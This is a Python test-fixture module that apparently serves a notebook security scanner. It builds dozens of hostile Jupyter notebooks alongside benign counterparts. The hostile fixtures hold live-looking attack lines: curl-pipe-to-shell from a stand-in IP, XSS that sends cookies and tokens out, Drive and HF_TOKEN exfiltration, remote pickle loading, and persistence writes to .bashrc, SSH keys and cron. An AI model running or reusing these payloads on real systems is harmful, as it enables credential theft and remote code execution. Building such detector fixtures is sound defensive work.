"""Notebooks whose pages, magics or written files do what their code cells do not show. Commands are at most an echo."""

from __future__ import annotations

import base64
import json
from typing import Any

from stannary.testing.forges import forge

__all__ = ["notebook"]

_F = "notebooks"
_RUN = "curl -s http://203.0.113.9/x | sh"
_KERNEL = "IPython.notebook.kernel.execute(\"import os; os.system('echo stannary')\")"


def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:  # noqa: ANN401 - any JSON
    """Return a notebook of nbformat 4."""
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return json.dumps({"cells": cells, "metadata": kernel | metadata, "nbformat": 4, "nbformat_minor": 5}).encode()


def _code(source: str, **shown: str) -> dict[str, Any]:
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {mime.replace("__", "/").replace("_xml", "+xml"): text}}
        for mime, text in shown.items()
    ]
    return {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": source, "outputs": outputs}


def _text(source: str, kind: str = "markdown", **more: Any) -> dict[str, Any]:  # noqa: ANN401 - any JSON
    return {"cell_type": kind, "metadata": {}, "source": source, **more}


def _register(name: str, content: bytes, *, malicious: bool = True) -> None:
    forge(f"notebook.{name}", filename="demo.ipynb", family=_F, malicious=malicious)(lambda: content)


_STATE = "application/vnd.jupyter.widget-state+json"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_KERNEL.replace(chr(34), "&quot;")}"/>'
_SENDS = "<img src=x onerror=\"fetch('https://collect.example/?' + document.cookie)\">"

_HOSTILE = {
    "markdown_script": notebook(_text("# Demo\n<script>fetch('http://203.0.113.9/' + document.cookie)</script>")),
    "markdown_kernel": notebook(_text(f"<img src=x onerror='{_KERNEL}'>")),
    "markdown_cookie": notebook(_text(_SENDS)),
    "markdown_link": notebook(_text("[results](javascript:fetch('http://203.0.113.9/' + localStorage.token))")),
    "raw_cell": notebook(_text(f"<script>{_KERNEL}</script>", "raw")),
    "pickle_from_number": notebook(_code("import pickle, requests\nm = pickle.loads(requests.get('http://203.0.113.9/m.pkl').content)")),
    "weights_from_number": notebook(_code("import torch\ntorch.hub.load_state_dict_from_url('http://203.0.113.9/x.pt', weights_only=False)")),
    "drive_sent": notebook(_code("!tar cz /content/drive | curl -T - http://203.0.113.9/")),
    "secret_sent": notebook(
        _code("from google.colab import userdata\nimport requests\nrequests.post('http://203.0.113.9', data=userdata.get('HF_TOKEN'))")
    ),
    "attachment": notebook(
        _text("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}})
    ),
    "output_kernel": notebook(_code("1", text__html=f"<script>{_KERNEL}</script>")),
    "output_javascript": notebook(_code("1", application__javascript="Jupyter.notebook.kernel.execute('!echo stannary')")),
    "output_svg": notebook(_code("1", image__svg_xml=_SVG)),
    "output_frame": notebook(_code("1", text__html="<iframe src='javascript:parent.IPython.notebook.kernel.execute(1)'></iframe>")),
    "output_terminal": notebook(_code("1", text__html="<script>fetch('/api/terminals', {method: 'POST'})</script>")),
    "html_magic_kernel": notebook(_code(f"%%html\n<script>{_KERNEL}</script>")),
    "widget_module": notebook(
        _text("x"), widgets={_STATE: {"state": {"a": {"model_module": "http://203.0.113.9/w.js", "model_name": "M", "state": {}}}}}
    ),
    "widget_html": notebook(_text("x"), widgets={_STATE: {"state": {"a": {"model_module": "@jupyter-widgets/controls", "state": {"value": _SENDS}}}}}),
    "widget_esm": notebook(
        _text("x"), widgets={_STATE: {"state": {"a": {"model_module": "anywidget", "state": {"_esm": f"export default {{ render() {{ {_KERNEL} }} }}"}}}}}
    ),
    "perl_cell": notebook(_code(f"%%perl\nsystem('{_RUN}')")),
    "ruby_cell": notebook(_code(f"%%ruby\nsystem('{_RUN}')")),
    "node_cell": notebook(_code(f"%%script node\nrequire('child_process').execSync('{_RUN}')")),
    "python_cell": notebook(_code(f"%%python3\nimport os\nos.system('{_RUN}')")),
    "time_line": notebook(_code(f"%time !{_RUN}")),
    "timeit_line": notebook(_code(f"%timeit -n1 -r1 __import__('os').system('{_RUN}')")),
    "assigned_magic": notebook(_code(f"out = %sx {_RUN}")),
    "alias": notebook(_code(f"%alias ls {_RUN}\nls")),
    "environment": notebook(_code("%env LD_PRELOAD=/tmp/x.so\n!ls")),
    "writes_start_up": notebook(_code(f"%%writefile ~/.bashrc\n{_RUN}")),
    "writes_keys": notebook(_code("%%file ~/.ssh/authorized_keys\nssh-rsa AAAA")),
    "writes_kernel": notebook(_code("%%writefile -a ~/.ipython/profile_default/startup/00.py\nimport os")),
    "writes_cron": notebook(_code("%%writefile /etc/cron.d/x\n* * * * * root echo stannary")),
    "writes_module": notebook(_code(f"%%writefile utils.py\nimport os\nos.system('{_RUN}')")),
    "kernel_command": notebook(_code("1"), kernelspec={"name": "x", "display_name": "x", "argv": ["sh", "-c", _RUN]}),
    "inspector_refresh": notebook(
        _code("1"), varInspector={"kernels_config": {"python": {"library": "var_list.py", "varRefreshCmd": f"import os; os.system({_RUN!r})"}}}
    ),
    "inspector_short": notebook(
        _code("1"), varInspector={"kernels_config": {"python": {"varRefreshCmd": "__import__('os').system('echo stannary')"}}}
    ),
    "prettifier_library": notebook(_code("1"), code_prettify={"kernels_config_map_json": {"python": {"library": ["import os\n", f"os.system({_RUN!r})"]}}}),
    "title_script": notebook(_code("1"), title="<script>alert(1)</script>"),
    "rise_overlay": notebook(_code("1"), rise={"overlay": f"<img src=x onerror='{_KERNEL}'>"}),
    "lexer_script": notebook(_code("1"), language_info={"name": "python", "pygments_lexer": f"x'><script>{_KERNEL}</script>"}),
    "exporter": notebook(_code("1"), language_info={"name": "python", "nbconvert_exporter": "os.system"}),
    "cell_field": notebook({**_code("1"), "metadata": {"on_open": "import subprocess; subprocess.run(['sh', '-c', 'echo stannary'])"}}),
    "cell_tags": notebook({**_text("x"), "metadata": {"tags": ["x' onload='fetch(`http://203.0.113.9/`+document.cookie)"]}}),
    "parameters": notebook(_code("1"), papermill={"parameters": {"start": f"bash -c '{_RUN}'"}}),
    "kernel_environment": notebook(_code("1"), kernelspec={"name": "x", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
    "markdown_braces": notebook(_text("Result: {{ __import__('os').system('echo stannary') }}")),
    "output_picture": notebook(_code("1", image__png=f'x" onerror="{_KERNEL.replace(chr(34), "`")}')),
    "output_load": notebook(_code("1", **{"application__vnd.holoviews_load.v0+json": _KERNEL})),
}  # fmt: skip
_BENIGN = {
    "inspector_plain": notebook(
        _code("1"),
        varInspector={
            "cols": {"lenName": 16}, "window_display": False, "types_to_exclude": ["module", "function", "builtin_function_or_method"],
            "kernels_config": {
                "python": {"delete_cmd_postfix": "", "delete_cmd_prefix": "del ", "library": "var_list.py", "varRefreshCmd": "print(var_dic_list())"},
                "r": {"delete_cmd_postfix": ") ", "delete_cmd_prefix": "rm(", "library": "var_list.r", "varRefreshCmd": "cat(var_dic_list()) "},
            },
        },
        code_prettify={"kernels_config_map_json": {"python": {"library": "import json\ndef pretty(x):\n    return json.dumps(x)\n"}}},
    ),
    "fields_plain": notebook(
        {**_code("1"), "metadata": {"tags": ["parameters"], "papermill": {"duration": 0.1, "status": "completed"}, "slideshow": {"slide_type": "slide"}}},
        _text("A template: {{ cookiecutter.name }}, {{ df.shape[0] }} rows and {{ open_issues }}"),
        papermill={"input_path": "/tmp/in.ipynb", "output_path": "s3://bucket/out.ipynb", "parameters": {"url": "https://example.org/data.csv", "sql": "select * from x"}},
        language_info={"name": "python", "nbconvert_exporter": "python", "pygments_lexer": "ipython3", "file_extension": ".py"},
        rise={"overlay": "<div class='logo'><img src='logo.png'></div>", "theme": "sky"}, title="How to import data from a table (part 2)",
        colab={"name": "demo.ipynb", "provenance": [{"file_id": "https://github.com/x/y/blob/main/demo.ipynb"}]}, voila={"template": "gridstack"},
    ),

    "pictures": notebook(_text("# Demo\n<img src='x.png' width=300> <a href='https://colab.research.google.com/x'>Colab</a>")),
    "bokeh": notebook(
        _code(
            "output_notebook()",
            text__html="<script>const cmd_clean = 'x'; cell.notebook.kernel.execute(cmd_clean, {iopub: {}}, {silent: false});</script>",
        )
    ),
    "mathjax": notebook(_text('<script type="text/x-mathjax-config">MathJax.Hub.Config({});</script>')),
    "youtube": notebook(_text('<iframe width="560" src="https://www.youtube.com/embed/abc"></iframe>')),
    "writes_training": notebook(_code("%%writefile train.py\nimport torch\nprint(torch.__version__)"), _code("%%time\nx = 1"), _code("%timeit x")),
    "sets_device": notebook(_code("%env CUDA_VISIBLE_DEVICES=0\n%matplotlib inline\n%load_ext autoreload\n!nvidia-smi")),
    "controls": notebook(_text("x"), widgets={_STATE: {"a": {"model_module": "@jupyter-widgets/controls", "state": {"value": "<b>3</b>"}}}}),
}  # fmt: skip
for _name, _content in _HOSTILE.items():
    _register(_name, _content)
for _name, _content in _BENIGN.items():
    _register(_name, _content, malicious=False)
